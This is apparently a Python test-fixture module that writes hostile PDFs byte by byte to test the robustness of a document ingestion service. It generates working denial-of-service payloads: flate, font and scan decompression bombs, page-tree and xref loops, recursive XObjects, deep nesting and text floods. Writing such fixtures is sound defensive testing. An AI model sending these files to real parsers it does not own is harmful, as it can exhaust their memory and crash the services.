"""Hostile PDFs, written byte by byte (no PDF library), always the same bytes.

Each `attack_*` function returns the bytes of one file built to hurt a PDF parser: a
decompression bomb, a loop in the page tree or in the cross-reference chain, a huge page
count, recursion and exponential work in text extraction, damage. `ATTACKS` lists them
by name with their default (full-size) arguments; `write_attacks(folder)` writes them all.
The test suite uses the small ones, or scaled-down arguments (`tests/ingest/
test_hostile_pdfs.py`); `bench/hostile_pdfs.py` uploads the full set to a real server.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

__all__ = [
    "ATTACKS",
    "attack_cmap_range_bomb",
    "attack_count_lie",
    "attack_deep_nesting",
    "attack_flate_bomb",
    "attack_font_bomb",
    "attack_garbage_body",
    "attack_huge_page",
    "attack_many_pages",
    "attack_object_stream_bomb",
    "attack_pages_cycle",
    "attack_pages_self_kid",
    "attack_scan_bomb",
    "attack_slow_pages",
    "attack_text_flood",
    "attack_truncated",
    "attack_xobject_cycle",
    "attack_xobject_fanout",
    "attack_xref_huge_subsection",
    "attack_xref_prev_loop",
    "attack_xref_prev_self",
    "deflate_spaces",
    "page_with_content",
    "write_attacks",
]

GIB = 1 << 30
_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
_TEXT = b"BT /F1 12 Tf 72 720 Td (%s) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_BLOCK = 1 << 24  # 16 MiB of input per deflate block


# --- building blocks ----------------------------------------------------------------------


def deflate_spaces(size: int) -> bytes:
    """A zlib stream that inflates to `size` spaces (a multiple of 16 MiB, or less).

    Compressing gigabytes takes seconds, so one 16 MiB block is compressed after a full
    flush (which resets the compressor: every such block compresses to the same bytes)
    and repeated; the checksum is computed over the repeats. About 1,000:1.
    """
    if size <= _BLOCK:
        return zlib.compress(b" " * size, 9)
    if size % _BLOCK:
        raise ValueError(f"size must be a multiple of {_BLOCK} bytes above {_BLOCK}")
    block = b" " * _BLOCK
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    empty_final_block = b"\x03\x00"  # a fixed-Huffman block with only end-of-block, BFINAL=1
    checksum = 1
    for _ in range(size // _BLOCK):
        checksum = zlib.adler32(block, checksum)
    return (first + repeat * (size // _BLOCK - 1) + empty_final_block
            + checksum.to_bytes(4, "big"))


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


class _Writer:
    """Numbered objects appended to a byte buffer, with their offsets remembered."""

    def __init__(self, header: bytes = _HEADER) -> None:
        self.out = bytearray(header)
        self.offsets: dict[int, int] = {}

    def add(self, number: int, body: bytes) -> None:
        self.offsets[number] = len(self.out)
        self.out += b"%d 0 obj\n%s\nendobj\n" % (number, body)

    def add_all(self, objects: Iterable[tuple[int, bytes]]) -> None:
        for number, body in objects:
            self.add(number, body)

    def xref_table(self, trailer: bytes, numbers: Iterable[int] | None = None) -> int:
        """An xref section (one subsection per run of numbers) and its trailer; its offset."""
        start = len(self.out)
        wanted = sorted(self.offsets if numbers is None else numbers)
        self.out += b"xref\n"
        for first, run in _runs([0, *wanted] if numbers is None else wanted):
            self.out += b"%d %d\n" % (first, len(run))
            for number in run:
                self.out += (b"0000000000 65535 f\r\n" if number == 0
                             else b"%010d 00000 n\r\n" % self.offsets[number])
        self.out += b"trailer\n%s\n" % trailer
        return start

    def finish(self, startxref: int) -> bytes:
        self.out += b"startxref\n%d\n%%%%EOF\n" % startxref
        return bytes(self.out)

    def simple(self, root: int = 1) -> bytes:
        """One xref table for every object, and the end of the file."""
        size = max(self.offsets) + 1
        return self.finish(self.xref_table(b"<< /Size %d /Root %d 0 R >>" % (size, root)))


def _runs(numbers: list[int]) -> list[tuple[int, list[int]]]:
    runs: list[tuple[int, list[int]]] = []
    for number in numbers:
        if runs and runs[-1][1][-1] + 1 == number:
            runs[-1][1].append(number)
        else:
            runs.append((number, [number]))
    return runs


def page_with_content(content: bytes, entries: bytes = b"") -> bytes:
    """A valid one-page PDF whose page content stream is `content`, with `entries` (such as
    a /Filter) in the stream's dictionary; the page's font is /F1 (Helvetica)."""
    return _one_page(content, content_entries=entries).simple()


def _one_page(content: bytes, *, content_entries: bytes = b"", font: bytes = _FONT,
              resources: bytes = b"<< /Font << /F1 5 0 R >> >>", count: int = 1,
              extra: Iterable[tuple[int, bytes]] = (), media_box: bytes = b"0 0 612 792",
              ) -> _Writer:
    """Catalog 1, pages 2 (claiming `count` pages), page 3 with content 4, font 5, `extra`."""
    writer = _Writer()
    writer.add_all([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R "
            b"/Resources %s >>" % (media_box, resources)),
        (4, _stream(content_entries, content)),
        (5, font),
        *extra,
    ])
    return writer


# --- decompression bombs ------------------------------------------------------------------


def attack_flate_bomb(inflated: int = 4 * GIB) -> bytes:
    """A page whose content stream is a few MB of FlateDecode that inflates to `inflated`
    bytes of spaces (4 GiB by default). Attacks a parser that inflates whole streams in
    memory: it must stop at a limit, or die against the worker's memory limit."""
    return _one_page(deflate_spaces(inflated), content_entries=b"/Filter /FlateDecode").simple()


def attack_object_stream_bomb(inflated: int = 4 * GIB) -> bytes:
    """The page object lives in a compressed object stream (/ObjStm, reached through an
    xref stream) that inflates to `inflated` bytes: the bomb goes off while the page
    tree is read, before any text extraction."""
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>")
    index = b"3 0 "
    prefix = index + page + b" "
    bomb = deflate_spaces(inflated)
    # zlib streams concatenate poorly, so the page goes first, uncompressed-size-aware:
    # the object stream holds `prefix` and then the inflated spaces; we prepend it by
    # compressing it as its own full-flushed block with a preset-free compressor.
    head = zlib.compressobj(9)
    lead = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH)
    data = lead + bomb[2:-4] + _adler_after(prefix, inflated).to_bytes(4, "big")
    writer = _Writer()
    writer.add_all([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (4, _stream(b"", _TEXT % b"object stream bomb")),
        (5, _FONT),
        (6, _stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(index), data)),
    ])
    entries = [(0, 0, 65535), (1, writer.offsets[1], 0), (1, writer.offsets[2], 0),
               (2, 6, 0), (1, writer.offsets[4], 0), (1, writer.offsets[5], 0),
               (1, writer.offsets[6], 0), (1, len(writer.out), 0)]
    table = b"".join(kind.to_bytes(1, "big") + field.to_bytes(4, "big") + gen.to_bytes(2, "big")
                     for kind, field, gen in entries)
    start = len(writer.out)
    writer.add(7, _stream(b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R", table))
    return writer.finish(start)


def _adler_after(prefix: bytes, spaces: int) -> int:
    checksum = zlib.adler32(prefix)
    block = b" " * min(spaces, _BLOCK)
    for _ in range(max(1, spaces // _BLOCK)):
        checksum = zlib.adler32(block, checksum)
    return checksum


def attack_font_bomb(inflated: int = 4 * GIB) -> bytes:
    """A font whose /ToUnicode CMap stream inflates to `inflated` bytes: harmless until
    text extraction reads the font to map its character codes."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    cmap = _stream(b"/Filter /FlateDecode", deflate_spaces(inflated))
    return _one_page(_TEXT % b"font bomb", font=font, extra=[(6, cmap)]).simple()


def attack_cmap_range_bomb() -> bytes:
    """A tiny /ToUnicode CMap with one bfrange over every 4-byte code (4 billion codes):
    attacks a CMap parser that expands ranges into a table."""
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
            b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange\n"
            b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\n"
            b"endcmap CMapName currentdict /CMap defineresource pop end end")
    font = (b"<< /Type /Font /Subtype /Type0 /BaseFont /Bomb /Encoding /Identity-H "
            b"/DescendantFonts [7 0 R] /ToUnicode 6 0 R >>")
    descendant = (b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Bomb /CIDSystemInfo "
                  b"<< /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>")
    return _one_page(b"BT /F1 12 Tf 72 720 Td <00000041> Tj ET", font=font,
                     extra=[(6, _stream(b"", cmap)), (7, descendant)]).simple()


# --- loops in the structure ---------------------------------------------------------------


def attack_pages_cycle() -> bytes:
    """The page tree loops: the root /Pages has an intermediate /Pages node as a kid, and
    that node lists the root as one of its own kids. A naive walk never ends."""
    writer = _Writer()
    writer.add_all([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>"),
        (3, b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R 2 0 R] /Count 2 >>"),
        (4, b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R "
            b"/Resources << /Font << /F1 6 0 R >> >> >>"),
        (5, _stream(b"", _TEXT % b"pages cycle")),
        (6, _FONT),
    ])
    return writer.simple()


def attack_pages_self_kid() -> bytes:
    """The root /Pages node is its own only kid (and claims one page)."""
    writer = _Writer()
    writer.add_all([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    ])
    return writer.simple()


def _prev_loop_document() -> _Writer:
    return _one_page(_TEXT % b"xref prev loop")


def attack_xref_prev_loop() -> bytes:
    """Two cross-reference sections whose trailers' /Prev point at each other: a reader
    that follows the chain of incremental updates without remembering where it has been
    loops forever."""
    writer = _prev_loop_document()
    size = max(writer.offsets) + 1
    first = len(writer.out)
    second = first + len(_xref_probe(writer, size, first))  # where section B will start
    writer.xref_table(b"<< /Size %d /Root 1 0 R /Prev %010d >>" % (size, second))
    assert len(writer.out) == second
    writer.xref_table(b"<< /Size %d /Root 1 0 R /Prev %010d >>" % (size, first), numbers=[3])
    return writer.finish(second)


def _xref_probe(writer: _Writer, size: int, prev: int) -> bytes:
    """The bytes a full xref section with a 10-digit /Prev takes (to know offsets ahead)."""
    probe = _Writer(b"")
    probe.offsets = dict(writer.offsets)
    probe.xref_table(b"<< /Size %d /Root 1 0 R /Prev %010d >>" % (size, prev))
    return bytes(probe.out)


def attack_xref_prev_self() -> bytes:
    """One cross-reference section whose trailer's /Prev is its own offset."""
    writer = _prev_loop_document()
    size = max(writer.offsets) + 1
    start = len(writer.out)
    writer.xref_table(b"<< /Size %d /Root 1 0 R /Prev %010d >>" % (size, start))
    return writer.finish(start)


def attack_xref_huge_subsection() -> bytes:
    """An xref subsection that announces a billion entries (and a /Size to match) and
    then holds six: a reader that trusts the count loops or allocates for a billion."""
    writer = _prev_loop_document()
    start = len(writer.out)
    writer.out += b"xref\n0 1000000000\n0000000000 65535 f\r\n"
    for number in sorted(writer.offsets):
        writer.out += b"%010d 00000 n\r\n" % writer.offsets[number]
    writer.out += b"trailer\n<< /Size 1000000000 /Root 1 0 R >>\n"
    return writer.finish(start)


def attack_xobject_cycle() -> bytes:
    """A form XObject that draws itself: text extraction that follows `Do` recurses
    without end."""
    form = _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
                   b"/Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>",
                   (_TEXT % b"again") + b" /X Do")
    writer = _one_page(b"/X Do", resources=b"<< /XObject << /X 6 0 R >> >>",
                       extra=[(6, form)])
    return writer.simple()


def attack_xobject_fanout(levels: int = 12, fanout: int = 10) -> bytes:
    """'Billion laughs' with form XObjects: each level draws the next one `fanout`
    times, so one page means fanout**levels draws of the last (10**12 by default)."""
    objects = []
    for level in range(levels):
        number = 6 + level
        if level == levels - 1:
            body, resources = _TEXT % b"laugh", b"/Font << /F1 5 0 R >>"
        else:
            body = b" ".join([b"/X Do"] * fanout)
            resources = b"/XObject << /X %d 0 R >>" % (number + 1)
        objects.append((number, _stream(
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s >>"
            % resources, body)))
    writer = _one_page(b"/X Do", resources=b"<< /XObject << /X 6 0 R >> >>", extra=objects)
    return writer.simple()


def attack_deep_nesting(depth: int = 100_000) -> bytes:
    """Arrays and dictionaries nested `depth` deep, in the page's resources and in its
    content stream: attacks recursive-descent object parsers (stack overflow)."""
    arrays = b"[" * depth + b"]" * depth
    dicts = b"<< /A " * depth + b">>" * depth
    content = b"BT /F1 12 Tf 72 720 Td (deep nesting) Tj ET " + arrays + b" pop"
    writer = _one_page(content, resources=b"<< /Font << /F1 5 0 R >> /Deep 6 0 R >>",
                       extra=[(6, b"<< /Arrays %s /Dicts %s >>" % (arrays, dicts))])
    return writer.simple()


# --- sizes and damage ---------------------------------------------------------------------


def _shared_content_pages(content: bytes, pages: int, per_node: int = 100) -> bytes:
    """`pages` pages in a two-level tree, all drawing the same content stream (object 3)."""
    writer = _Writer()
    nodes = (pages + per_node - 1) // per_node
    first_page = 5 + nodes
    writer.add_all([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [%s] /Count %d >>"
            % (b" ".join(b"%d 0 R" % (5 + n) for n in range(nodes)), pages)),
        (3, _stream(b"/Filter /FlateDecode", zlib.compress(content, 9))),
        (4, _FONT),
    ])
    for node in range(nodes):
        kids = range(first_page + node * per_node,
                     first_page + min(pages, (node + 1) * per_node))
        writer.add(5 + node, b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>"
                   % (b" ".join(b"%d 0 R" % k for k in kids), len(kids)))
    for index in range(pages):
        writer.add(first_page + index,
                   b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
                   b"/Resources << /Font << /F1 4 0 R >> >> >>" % (5 + index // per_node))
    return writer.simple()


def attack_many_pages(pages: int = 10_000) -> bytes:
    """`pages` pages (10,000 by default) in a two-level tree, all sharing one small
    content stream: a small file whose page count is over the service's limit."""
    return _shared_content_pages(_TEXT % b"One of many identical pages.", pages)


def attack_slow_pages(pages: int = 20, operations: int = 190_000) -> bytes:
    """`pages` pages sharing one compressed content stream of `operations` cheap
    operations (about 1.9 million tokens, just under pypdf's per-stream parsing limit):
    each page takes seconds to parse, more than the per-page time budget allows."""
    content = b"BT " + b"1 0 0 1 5 5 Tm 0 0 m 1 1 l " * operations + b"(slow) Tj ET"
    return _shared_content_pages(content, pages)


def attack_text_flood(pages: int = 40, chars_per_page: int = 2_000_000) -> bytes:
    """`pages` pages sharing one content stream that shows `chars_per_page` characters
    (tens of KB compressed): parsing stays within its time budget, but the document's
    text is far more than any real document holds (80 million characters by default),
    enough to keep chunking and embedding busy for hours."""
    line = b"(" + b"Flood " * 40 + b") Tj T* "
    count = max(1, chars_per_page // 240)
    return _shared_content_pages(b"BT /F1 1 Tf 2 TL 0 780 Td " + line * count + b"ET", pages)


def attack_scan_bomb(side: int = 100_000) -> bytes:
    """A page with no text that shows one `side` x `side` pixel image (ten billion pixels by
    default; one bit a pixel, compressed to about a megabyte per 1.2 GB of pixels): what
    looks like a scan to OCR, and decodes to more memory than the machine has."""
    bits = (side + 7) // 8 * side
    data = deflate_spaces(max(_BLOCK, bits // _BLOCK * _BLOCK)) if bits > _BLOCK else (
        zlib.compress(b"\0" * bits, 9))
    image = _stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace "
                    b"/DeviceGray /BitsPerComponent 1 /Filter /FlateDecode" % (side, side),
                    data)
    return _one_page(b"q 612 0 0 792 0 0 cm /Im1 Do Q",
                     resources=b"<< /XObject << /Im1 6 0 R >> >>", extra=[(6, image)]).simple()


def attack_huge_page(points: int = 14_400) -> bytes:
    """A page `points` points square (200 inches, the largest the PDF format allows) with
    no text and a drawing on it: rendered for OCR at 200 dpi it would be 1.6 billion
    pixels."""
    return _one_page(b"0 0 m %d %d l S 10 10 200 200 re f" % (points, points),
                     media_box=b"0 0 %d %d" % (points, points)).simple()


def attack_count_lie(claimed: int = 1_000_000_000) -> bytes:
    """The page tree's /Count claims `claimed` pages (a billion) and holds one: a reader
    that sizes anything from /Count allocates for a billion."""
    return _one_page(_TEXT % b"count lie", count=claimed).simple()


def attack_truncated() -> bytes:
    """A three-page document cut off in the middle of its second page's content: no
    xref table, no trailer, no %%EOF. A reader must repair it or reject it cleanly."""
    writer = _Writer()
    writer.add_all([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R 5 0 R 7 0 R] /Count 3 >>"),
        (9, _FONT),
    ])
    for page in range(3):
        writer.add(3 + 2 * page, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                                 b"/Contents %d 0 R /Resources << /Font << /F1 9 0 R >> >> >>"
                                 % (4 + 2 * page))
        writer.add(4 + 2 * page, _stream(b"", _TEXT % (b"Truncated page %d" % (page + 1))))
    whole = writer.simple()
    return whole[: writer.offsets[6] + 30]


def attack_garbage_body() -> bytes:
    """A %PDF- header followed by 64 KiB of deterministic pseudo-random bytes: no objects,
    no xref, nothing to repair from."""
    out, state = bytearray(_HEADER), 0x2545
    while len(out) < 65536:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out += (state >> 8).to_bytes(3, "big")
    return bytes(out)


ATTACKS: dict[str, Callable[[], bytes]] = {
    "flate_bomb": attack_flate_bomb,
    "object_stream_bomb": attack_object_stream_bomb,
    "font_bomb": attack_font_bomb,
    "cmap_range_bomb": attack_cmap_range_bomb,
    "pages_cycle": attack_pages_cycle,
    "pages_self_kid": attack_pages_self_kid,
    "xref_prev_loop": attack_xref_prev_loop,
    "xref_prev_self": attack_xref_prev_self,
    "xref_huge_subsection": attack_xref_huge_subsection,
    "xobject_cycle": attack_xobject_cycle,
    "xobject_fanout": attack_xobject_fanout,
    "deep_nesting": attack_deep_nesting,
    "many_pages_10000": attack_many_pages,
    "slow_pages": attack_slow_pages,
    "text_flood": attack_text_flood,
    "count_lie": attack_count_lie,
    "scan_bomb": attack_scan_bomb,
    "huge_page": attack_huge_page,
    "truncated": attack_truncated,
    "garbage_body": attack_garbage_body,
}


def write_attacks(folder: Path, names: Iterable[str] | None = None) -> dict[str, Path]:
    """Write the named attacks (all by default) as `attack-<name>.pdf` under `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for name in ATTACKS if names is None else names:
        path = folder / f"attack-{name}.pdf"
        path.write_bytes(ATTACKS[name]())
        written[name] = path
    return written
